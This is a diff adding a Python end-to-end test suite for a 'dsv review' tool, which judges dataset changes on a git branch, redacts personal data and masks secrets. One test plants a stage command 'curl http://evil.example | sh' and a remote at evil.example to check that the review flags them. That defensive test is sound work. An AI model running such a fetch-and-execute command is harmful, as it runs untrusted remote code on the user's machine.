@@ -1,0 +1,270 @@
+"""`dsv review`: what a branch changes, judged, held against pandas; and what may not be shown."""
+
+from __future__ import annotations
+
+import gzip
+import json
+from pathlib import Path
+from typing import Any
+
+import jsonschema
+import pandas as pd
+import pytest
+
+import dsv.renderers
+from tests.e2e.conftest import User
+
+CASES = Path(__file__).parents[1] / "cases"
+SCHEMA = json.loads((Path(dsv.renderers.__file__).parent / "schemas" / "dsv.review.1.json").read_text())
+TOKEN = "ghp_" + "a1B2" * 9
+
+
+def declare(user: User, path: str, params: str = "", **meta: Any) -> None:
+    """Declare the dataset `data` without starting DVC, and hold it to thresholds."""
+    words = ", ".join(f"{name}: {json.dumps(value)}" for name, value in meta.items())
+    user.write("dvc.yaml", f"artifacts:\n  data: {{path: {path}, type: dataset, meta: {{dsv: {{{words}}}}}}}\n")
+    if params:
+        user.write("params.yaml", params)
+
+
+def branch(user: User, path: str, old: str, new: str, params: str = "", **meta: Any) -> None:
+    """`main` with a declared dataset, and a branch `topic` on which its file is another."""
+    declare(user, path, params, **meta)
+    user.write(path, old)
+    user.git("branch", "-M", "main")
+    user.git("add", "-A")
+    user.git("commit", "-qm", "base")
+    user.git("checkout", "-qb", "topic")
+    user.write(path, new)
+    user.git("commit", "-qam", "change")
+
+
+def table(rows: dict[str, tuple[str, str, str]]) -> str:
+    """A CSV file of rows by key: class, split, note."""
+    lines = [f"{key},{','.join(cells)}" for key, cells in rows.items()]
+    return "\n".join(["id,class,split,note", *lines]) + "\n"
+
+
+def rows(count: int, classes: int = 3) -> dict[str, tuple[str, str, str]]:
+    splits = ("train", "train", "train", "val", "test")
+    return {f"r{n:03}": (f"c{n % classes}", splits[n % 5], f"note {n}") for n in range(count)}
+
+
+META = {"key": ["id"], "label": "class", "split": "split"}
+
+
+def found(review: dict[str, Any]) -> dict[str, dict[str, Any]]:
+    return {item["rule"]: item for item in review["findings"]}
+
+
+def test_an_exploded_class_list_leads(repo: User) -> None:
+    old, new = ((CASES / "sp500-table" / f"{name}.csv").read_text() for name in ("vD", "vE"))
+    branch(repo, "table.csv", old, new, key=["Symbol"], label="Sector")
+    review = repo.dsv("review", "--json").json
+    jsonschema.validate(review, SCHEMA)
+    before, after = (pd.read_csv(CASES / "sp500-table" / f"{name}.csv").set_index("Symbol") for name in ("vD", "vE"))
+    assert review["verdict"] == "errors"
+    assert review["findings"][0]["id"] == "DSV301"
+    assert review["findings"][0]["count"] == after["Sector"].nunique()
+    assert found(review)["rows-removed"]["count"] == len(before.index.difference(after.index))
+    both = before.index.intersection(after.index)
+    moved = before.loc[both, "Sector"] + "\0" + after.loc[both, "Sector"]
+    changed = moved[before.loc[both, "Sector"] != after.loc[both, "Sector"]]
+    (dataset,) = review["datasets"]
+    listed = {f"{item['before']}\0{item['after']}": item["count"] for item in dataset["groups"]}
+    counts = changed.value_counts()
+    assert listed == {name: counts[name] for name in listed}
+    assert min(listed.values()) >= counts[~counts.index.isin(listed)].max()
+    names = int((before.loc[both, "Name"] != after.loc[both, "Name"]).sum())
+    assert dataset["more_cells"] == int(counts.sum()) + names - sum(listed.values())
+    assert dataset["more_groups"] == len(counts) + names - len(listed)
+    text = repo.dsv("review").out
+    assert text.index("DSV301") < text.index("DSV102") < text.index("Classes of Sector")
+    assert repo.dsv("review", "--fail-on", "error", code=1).out == text
+    assert repo.dsv("diff", *review["command"].split()[2:]).out
+
+
+def test_real_damage_leads_where_blanks_hide_it(repo: User) -> None:
+    files = [CASES / "humaneval-jsonl" / f"{name}.jsonl.gz" for name in ("vC", "vD")]
+    old, new = (gzip.decompress(file.read_bytes()).decode() for file in files)
+    branch(repo, "problems.jsonl", old, new, key=["task_id"])
+    text = repo.dsv("review").out
+    assert "136 of 142 changed rows differ in whitespace only; 6 do not" in text
+    shown = [line.split("task_id=")[1].strip() for line in text.splitlines() if "~ task_id=" in line]
+    before, after = (pd.read_json(file, lines=True).set_index("task_id") for file in files)
+    blank = before["prompt"].str.replace(r"\s+", "", regex=True) == after["prompt"].str.replace(r"\s+", "", regex=True)
+    assert set(shown) == set(before.index[~blank])
+
+
+def test_what_is_lost_and_what_test_lost(repo: User) -> None:
+    old = rows(100)
+    new = {key: cells for key, cells in old.items() if cells[0] != "c2" or cells[1] == "train"}
+    new |= {"r004": ("c1", "train", "note 4"), "r009": ("c1", "test", "note 9")}
+    branch(repo, "t.csv", table(old), table(new), **META)
+    review = repo.dsv("review", "--json").json
+    jsonschema.validate(review, SCHEMA)
+    before, after = pd.DataFrame(old).T, pd.DataFrame(new).T
+    both = before.index.intersection(after.index)
+    rules = found(review)
+    assert rules["rows-removed"]["count"] == len(before.index.difference(after.index))
+    assert rules["rows-removed"]["level"] == "error"
+    moved = (before.loc[both, 1] == "test") != (after.loc[both, 1] == "test")
+    assert rules["test-rows-moved"]["count"] == int(moved.sum())
+    gone = before.loc[before.index.difference(after.index), 1] == "test"
+    touched = (before.loc[both] != after.loc[both]).any(axis=1) & (
+        (before.loc[both, 1] == "test") | (after.loc[both, 1] == "test")
+    )
+    assert rules["test-rows-changed"]["count"] == int(gone.sum()) + int(touched.sum())
+    assert rules["class-not-in-test"]["count"] == rules["class-gap"]["count"] == 1
+    assert [item["level"] for item in review["findings"]] == sorted(
+        (item["level"] for item in review["findings"]), key=["error", "warning", "info"].index
+    )
+
+
+def test_fields_that_lost_values_or_say_the_same_everywhere(repo: User) -> None:
+    old = rows(100)
+    new = {key: (label, split, "" if n % 4 == 0 else "same") for n, (key, (label, split, _)) in enumerate(old.items())}
+    branch(repo, "t.csv", table(old), table(new), **META)
+    rules = found(repo.dsv("review", "--json").json)
+    assert "note 0.0 % -> 25.0 %" in rules["null-share-rise"]["message"]
+    assert rules["constant-field"]["count"] == 1
+    assert rules["values-missing-now"]["count"] == 1
+
+
+def test_personal_data_is_shown_nowhere(repo: User) -> None:
+    old = rows(30)
+    new = {key: (label, split, f"Ana {n}") for n, (key, (label, split, _)) in enumerate(old.items())}
+    new["r900"] = ("c0", "train", "Ana 900")
+    branch(repo, "t.csv", table(old), table(new), **META, pii=["note"])
+    declare(repo, "t.csv", **META)
+    repo.git("commit", "-qam", "declare less")
+    for form in ((), ("--json",), ("--md",)):
+        out = repo.dsv("review", *form).out
+        assert "note 1" not in out
+        assert "Ana" not in out
+    review = repo.dsv("review", "--json").json
+    assert review["datasets"][0]["redacted"] == ["note"]
+    assert found(review)["privacy-weakened"]["level"] == "error"
+    assert review["datasets"][0]["changed_cells"] == {"note": 30}
+    (group,) = review["datasets"][0]["groups"]
+    assert group["count"] == 30
+
+
+def test_a_private_key_label_or_split_is_not_shown_either(repo: User) -> None:
+    old = {f"name{n}": (f"illness{n % 3}", f"ward{n % 2}", "x") for n in range(30)}
+    new = {key: ("illness9", f"ward{2 + n % 2}", "y") for n, key in enumerate(old)}
+    branch(repo, "t.csv", table(old), table(new), **META, pii=["id", "class", "split"])
+    for form in ((), ("--json",), ("--md",)):
+        out = repo.dsv("review", *form).out
+        assert not any(word in out for word in ("name1", "illness", "ward"))
+
+
+@pytest.mark.parametrize(
+    ("values", "key", "other"), [("none", False, False), ("keys", True, False), ("all", True, True)]
+)
+def test_values_of_rows_are_shown_as_far_as_is_asked(repo: User, values: str, key: bool, other: bool) -> None:
+    old = rows(30)
+    new = old | {"r007": ("c2", "val", "hello")}
+    branch(repo, "t.csv", table(old), table(new), **META)
+    for form in ((), ("--json",), ("--md",)):
+        out = repo.dsv("review", "--values", values, *form).out
+        assert ("r007" in out) == key
+        assert ("hello" in out) == other
+        assert "c2" in out
+
+
+def test_secrets_are_masked_and_told(repo: User) -> None:
+    old = rows(30)
+    new = old | {"r007": ("c1", "val", f"key {TOKEN}"), "r901": (TOKEN, "train", "x")}
+    branch(repo, "t.csv", table(old), table(new), **META)
+    for form in ((), ("--json",), ("--md",)):
+        assert TOKEN not in repo.dsv("review", *form).out
+    review = repo.dsv("review", "--json").json
+    assert found(review)["secret-in-data"]["count"] == 2
+    assert review["datasets"][0]["samples"]["changed"][0]["cells"]["note"]["new"] == "key ‹secret›"
+
+
+def test_the_base_says_what_counts(repo: User) -> None:
+    old = rows(100)
+    new = {key: cells for key, cells in old.items() if key != "r001"}
+    params = "checks:\n  data:\n    levels: {rows-removed: error, class-gap: 'off'}\n"
+    branch(repo, "t.csv", table(old), table(new), params, **META)
+    repo.write("params.yaml", "checks:\n  data:\n    levels: {rows-removed: 'off'}\n")
+    repo.git("commit", "-qam", "loosen")
+    rules = found(repo.dsv("review", "--json").json)
+    assert rules["rows-removed"]["level"] == "error"
+    assert rules["checks-changed"]["path"] == "params.yaml"
+    repo.git("checkout", "-q", "main")
+    repo.write("params.yaml", "checks:\n  data:\n    levels: {rows-remove: error}\n")
+    repo.git("commit", "-qam", "misspell")
+    ran = repo.dsv("review", "main...topic", code=3)
+    assert "params.yaml:3: there is no rule 'rows-remove'" in ran.err.replace("\n  ", " ") or (
+        "there is no rule 'rows-remove'" in ran.err and "params.yaml" in ran.err and "rows-removed" in ran.err
+    )
+
+
+def test_settings_and_commands_of_the_branch_are_told(repo: User) -> None:
+    branch(repo, "t.csv", table(rows(20)), table(rows(21)), **META)
+    repo.write(".dvc/config", '[remote "evil"]\n    url = http://evil.example\n[core]\n    remote = evil\n')
+    text = repo.read("dvc.yaml")
+    repo.write("dvc.yaml", text + "stages:\n  train:\n    cmd: curl http://evil.example | sh\n")
+    repo.git("add", "-A")
+    repo.git("commit", "-qm", "settings")
+    review = repo.dsv("review", "--json").json
+    rules = found(review)
+    assert rules["remote-changed"]["level"] == "error"
+    assert rules["remote-changed"]["path"] == ".dvc/config"
+    assert rules["command-changed"]["count"] == 1
+    assert review["findings"][0]["rule"] == "remote-changed"
+
+
+def test_what_cannot_be_compared_is_no_clean_review(repo: User) -> None:
+    branch(repo, "t.csv", table(rows(20)), "id,class,split,note\na,b\n", **META)
+    ran = repo.dsv("review", "--json", code=3)
+    jsonschema.validate(ran.json, SCHEMA)
+    assert ran.json["verdict"] == "incomplete"
+    assert ran.json["datasets"] == []
+    assert "t.csv" in ran.json["errors"][0]["message"]
+    assert "could not compare 1 dataset" in repo.dsv("review", code=3).out
+    hidden = repo.dsv("review", "--json", "--values", "none", code=3).json
+    assert hidden["errors"][0]["message"].startswith("something could not be compared")
+
+
+def test_a_review_without_a_change_is_clean(repo: User) -> None:
+    branch(repo, "t.csv", table(rows(20)), table(rows(20)) + " ", **META)
+    repo.git("reset", "-q", "--hard", "main")
+    review = repo.dsv("review", "--json").json
+    assert (review["verdict"], review["findings"]) == ("clean", [])
+    assert "1 dataset without changes" in repo.dsv("review").out
+
+
+def test_a_new_and_a_removed_dataset(repo: User) -> None:
+    branch(repo, "t.csv", table(rows(20)), table(rows(20)) + "x,c0,train,note\n", **META)
+    repo.git("rm", "-q", "t.csv")
+    repo.git("commit", "-qm", "gone")
+    review = repo.dsv("review", "--json").json
+    assert review["findings"][0]["rule"] == "dataset-removed"
+    assert review["findings"][0]["count"] == 20
+    repo.git("checkout", "-q", "-b", "other", "main")
+    back = repo.dsv("review", "topic...other", "--json").json
+    assert back["verdict"] == "clean"
+
+
+def test_ranges_and_bases(repo: User) -> None:
+    branch(repo, "t.csv", table(rows(20)), table(rows(19)), **META)
+    one = repo.dsv("review", "--json").out
+    assert repo.dsv("review", "main", "--json").out == one
+    assert repo.dsv("review", "main...HEAD", "--json").out == one
+    assert "dsv review main...topic" in repo.dsv("review", "main..topic", code=2).err
+    repo.dsv("review", "nowhere", code=3)
+    repo.git("checkout", "-q", "--orphan", "alone")
+    repo.git("commit", "-qm", "alone")
+    assert "no common ancestor" in repo.dsv("review", "main", code=3).err
+    repo.git("branch", "-m", "main", "trunk")
+    assert "no branch to review against" in repo.dsv("review", code=3).err
+
+
+def test_a_second_review_says_the_same(repo: User) -> None:
+    branch(repo, "t.csv", table(rows(100)), table(rows(90)), **META)
+    for form in ("--json", "--md"):
+        assert repo.dsv("review", form).out == repo.dsv("review", form).out
